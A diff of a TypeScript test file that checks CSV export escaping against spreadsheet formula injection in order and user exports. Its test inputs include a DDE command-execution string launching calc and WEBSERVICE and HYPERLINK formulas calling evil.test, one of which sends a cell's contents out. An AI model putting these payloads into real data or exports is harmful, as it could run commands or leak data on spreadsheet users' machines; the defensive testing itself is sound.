@@ -1,8 +1,21 @@
 import { describe, expect, it } from 'vitest';
 import { makeOrderRow, makeUserRow } from '../testing/search-stubs';
-import { buildCsv, centsToCsvAmount, csvCell, exportFileName } from './csv';
+import {
+  buildCsv,
+  centsToCsvAmount,
+  csvCell,
+  exportFileName,
+  restoreNeutralisedFormula,
+} from './csv';
 import { buildOrdersCsv } from './orders-csv';
 import { buildUsersCsv } from './users-csv';
+
+/** A row as csv.ts writes it: every cell quoted (the cells given here hold no quote or comma). */
+const quoted = (cells: string): string =>
+  cells
+    .split(',')
+    .map((cell) => `"${cell}"`)
+    .join(',');
 
 function rowsOf(csv: string): string[] {
   expect(csv.startsWith('\uFEFF')).toBe(true);
@@ -11,8 +24,9 @@ function rowsOf(csv: string): string[] {
 }
 
 describe('csvCell', () => {
-  it('leaves plain text alone', () => {
-    expect(csvCell('Smoke City')).toBe('Smoke City');
+  it('quotes every cell, plain text too', () => {
+    expect(csvCell('Smoke City')).toBe('"Smoke City"');
+    expect(csvCell('')).toBe('""');
   });
 
   it('quotes commas, quotes and line breaks, doubling quotes', () => {
@@ -22,17 +36,32 @@ describe('csvCell', () => {
     expect(csvCell('a\r\nb')).toBe('"a\r\nb"');
   });
 
-  it.each(['=HYPERLINK("http://x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd'])(
+  it('keeps a cell holding a semicolon and a formula one cell (semicolon locales)', () => {
+    expect(csvCell('Acme;=WEBSERVICE("http://evil.test/?"&A1)')).toBe(
+      '"Acme;=WEBSERVICE(""http://evil.test/?""&A1)"',
+    );
+  });
+
+  it.each(['=HYPERLINK("http://x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'])(
     'neutralises a formula-looking cell %j with a leading quote',
     (value) => {
-      const cell = csvCell(value);
-      expect(cell.replace(/^"/, '').startsWith("'")).toBe(true);
+      expect(csvCell(value)).toBe(`"'${value.replace(/"/g, '""')}"`);
     },
   );
 
   it('neutralises and quotes at once', () => {
     expect(csvCell('=1,2')).toBe(`"'=1,2"`);
     expect(csvCell('=A1&"x"')).toBe(`"'=A1&""x"""`);
+  });
+
+  it('leaves a formula character further in as it is', () => {
+    expect(csvCell('Smoke=City')).toBe('"Smoke=City"');
+  });
+
+  it('restoreNeutralisedFormula takes off only the quote csvCell added', () => {
+    expect(restoreNeutralisedFormula("'=1+1")).toBe('=1+1');
+    expect(restoreNeutralisedFormula("'plain")).toBe("'plain");
+    expect(restoreNeutralisedFormula('=1+1')).toBe('=1+1');
   });
 });
 
@@ -47,14 +76,16 @@ describe('centsToCsvAmount', () => {
 
 describe('buildCsv', () => {
   it('writes a BOM, the header even with no rows, and CRLF line ends', () => {
-    expect(buildCsv(['A', 'B'], [])).toBe('\uFEFFA,B\r\n');
+    expect(buildCsv(['A', 'B'], [])).toBe('\uFEFF"A","B"\r\n');
   });
 });
 
 describe('buildOrdersCsv', () => {
   it('writes the header row even with no orders', () => {
     expect(rowsOf(buildOrdersCsv([]))).toEqual([
-      'Order ID,Date,Store,Status,Payment Type,Amount (USD),Refunded (USD),Invoice,Email,Role,Ship To,Items,Paid At',
+      quoted(
+        'Order ID,Date,Store,Status,Payment Type,Amount (USD),Refunded (USD),Invoice,Email,Role,Ship To,Items,Paid At',
+      ),
     ]);
   });
 
@@ -82,19 +113,28 @@ describe('buildOrdersCsv', () => {
     );
     expect(rows).toHaveLength(3);
     expect(rows[1]).toBe(
-      'ord_1,2025-03-04T18:30:00.000Z,Smoke City,processing,one_time,123.45,0.00,INV-000042,owner@smokecity.test,retailer,"Pat Lee, 1 Main St, Oakland, CA 94607",Purple Dream Syrup x 4; Blue Coast Syrup x 2,2025-03-04T18:31:00.000Z',
+      '"ord_1","2025-03-04T18:30:00.000Z","Smoke City","processing","one_time","123.45","0.00","INV-000042","owner@smokecity.test","retailer","Pat Lee, 1 Main St, Oakland, CA 94607","Purple Dream Syrup x 4; Blue Coast Syrup x 2","2025-03-04T18:31:00.000Z"',
     );
     expect(rows[2]).toBe(
-      'ord_2,2025-03-04T18:30:00.000Z,Smoke City,cancelled,one_time,9.90,9.90,,,,,Purple Dream Syrup x 1,',
+      quoted(
+        'ord_2,2025-03-04T18:30:00.000Z,Smoke City,cancelled,one_time,9.90,9.90,,,,,Purple Dream Syrup x 1,',
+      ),
     );
   });
 
-  it('escapes hostile store names and emails', () => {
+  it('escapes hostile store names, emails, addresses and lines', () => {
     const csv = buildOrdersCsv([
-      makeOrderRow({ storeName: '=cmd|" /C calc"!A0', email: '+1@x.test' }),
+      makeOrderRow({
+        storeName: '=cmd|" /C calc"!A0',
+        email: '+1@x.test',
+        shipTo: 'Acme;=WEBSERVICE("http://evil.test")',
+        lines: '-1+1 x 1',
+      }),
     ]);
-    expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
-    expect(csv).toContain(`,'+1@x.test,`);
+    expect(csv).toContain(`,"'=cmd|"" /C calc""!A0",`);
+    expect(csv).toContain(`,"'+1@x.test",`);
+    expect(csv).toContain(`,"Acme;=WEBSERVICE(""http://evil.test"")",`);
+    expect(csv).toContain(`,"'-1+1 x 1",`);
   });
 });
 
@@ -112,10 +152,28 @@ describe('buildUsersCsv', () => {
       ]),
     );
     expect(rows).toEqual([
-      'User ID,Store,Full Name,Seller Permit ID,Email,Role,Status,Verified,Applied,Reviewed',
-      'u1,"Smoke, ""City""",Pat Lee,SP-1001,pat@cloudnine.test,retailer,approved,yes,2025-03-02T12:00:00.000Z,2025-03-03T09:00:00.000Z',
-      "u2,'@evil,Pat Lee,SP-1001,pat@cloudnine.test,retailer,pending,no,,",
+      quoted(
+        'User ID,Store,Full Name,Seller Permit ID,Email,Role,Status,Verified,Applied,Reviewed',
+      ),
+      '"u1","Smoke, ""City""","Pat Lee","SP-1001","pat@cloudnine.test","retailer","approved","yes","2025-03-02T12:00:00.000Z","2025-03-03T09:00:00.000Z"',
+      quoted("u2,'@evil,Pat Lee,SP-1001,pat@cloudnine.test,retailer,pending,no,,"),
     ]);
+  });
+
+  it('neutralises every free-text field of a buyer', () => {
+    const [, row] = rowsOf(
+      buildUsersCsv([
+        makeUserRow({
+          storeName: 'Acme;=WEBSERVICE("x")',
+          fullName: '=HYPERLINK("http://evil.test")',
+          sellerPermitId: '@SUM(A1)',
+          email: '-2+3@x.test',
+        }),
+      ]),
+    );
+    expect(row).toContain(
+      `"Acme;=WEBSERVICE(""x"")","'=HYPERLINK(""http://evil.test"")","'@SUM(A1)","'-2+3@x.test"`,
+    );
   });
 });
 
